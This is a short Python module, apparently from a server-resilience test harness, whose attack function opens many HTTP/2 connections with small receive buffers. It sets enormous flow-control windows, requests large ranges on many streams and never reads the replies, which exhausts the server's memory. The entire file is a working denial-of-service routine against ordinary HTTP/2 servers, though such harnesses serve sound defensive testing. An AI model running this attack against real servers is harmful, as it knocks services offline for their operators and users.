"""Clients of HTTP/2 open all windows, ask for much on many streams, and read nothing, with small receive buffers."""

import time

import wire


def attack(victim):
    held = []
    for _ in range(100 * victim.scale):
        held.append(wire.Http2(victim.connect("h2", receive_buffer=4096), window=1 << 30))
        asked = [held[-1].request("/fetch/good/wide-0", last=(32 << 20) - 1)[1] for _ in range(16)]
        held[-1].send(wire.window_update(0, 1 << 30) + b"".join(asked))
    time.sleep(0.5)
    victim.begun()
    wire.wait_for_the_end()
